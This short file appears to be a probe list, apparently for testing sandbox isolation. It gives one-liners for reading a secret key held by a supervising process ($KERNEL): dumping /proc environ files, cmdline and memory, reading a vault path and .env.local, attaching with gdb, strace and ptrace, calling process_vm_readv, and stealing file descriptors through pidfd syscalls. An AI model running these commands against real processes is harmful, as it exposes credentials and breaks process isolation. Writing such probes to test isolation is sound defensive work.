# Tricks to read a key in the environment and the memory of the kernel ($KERNEL) and its helpers. One a line.
env; export -p; set
cat /proc/$KERNEL/environ | tr '\0' '\n'
strings /proc/$KERNEL/environ
cat /proc/$PPID/environ | tr '\0' '\n'
cat /proc/self/environ | tr '\0' '\n'
cat /proc/$KERNEL/cmdline /proc/$KERNEL/maps
dd if=/proc/$KERNEL/mem bs=1 count=10 2>&1
python3 -c "import os; print(open(f'/proc/{os.environ[\"KERNEL\"]}/environ').read())"
ls -l /proc/$KERNEL/fd; cat /proc/$KERNEL/fd/0 </dev/null
cat /proc/$KERNEL/root$VAULT /proc/$KERNEL/cwd/app/.env.local
cat /proc/$KERNEL/task/$KERNEL/environ | tr '\0' '\n'
ps eww -p $KERNEL
gdb -p $KERNEL -batch -ex 'info proc' 2>&1
strace -p $KERNEL 2>&1
python3 -c "import ctypes, os; c = ctypes.CDLL(None); print(c.ptrace(16, int(os.environ['KERNEL']), 0, 0))"
python3 -c "import ctypes, os; c = ctypes.CDLL(None); b = ctypes.create_string_buffer(64); v = (ctypes.c_size_t * 2)(ctypes.addressof(b), 64); r = (ctypes.c_size_t * 2)(0x400000, 64); print(c.process_vm_readv(int(os.environ['KERNEL']), v, 1, r, 1, 0))"
python3 -c "import ctypes, os; c = ctypes.CDLL(None); p = c.syscall(434, int(os.environ['KERNEL']), 0); print(p, c.syscall(438, p, 0, 0))"
kill -USR1 $KERNEL; kill -QUIT $KERNEL; echo still
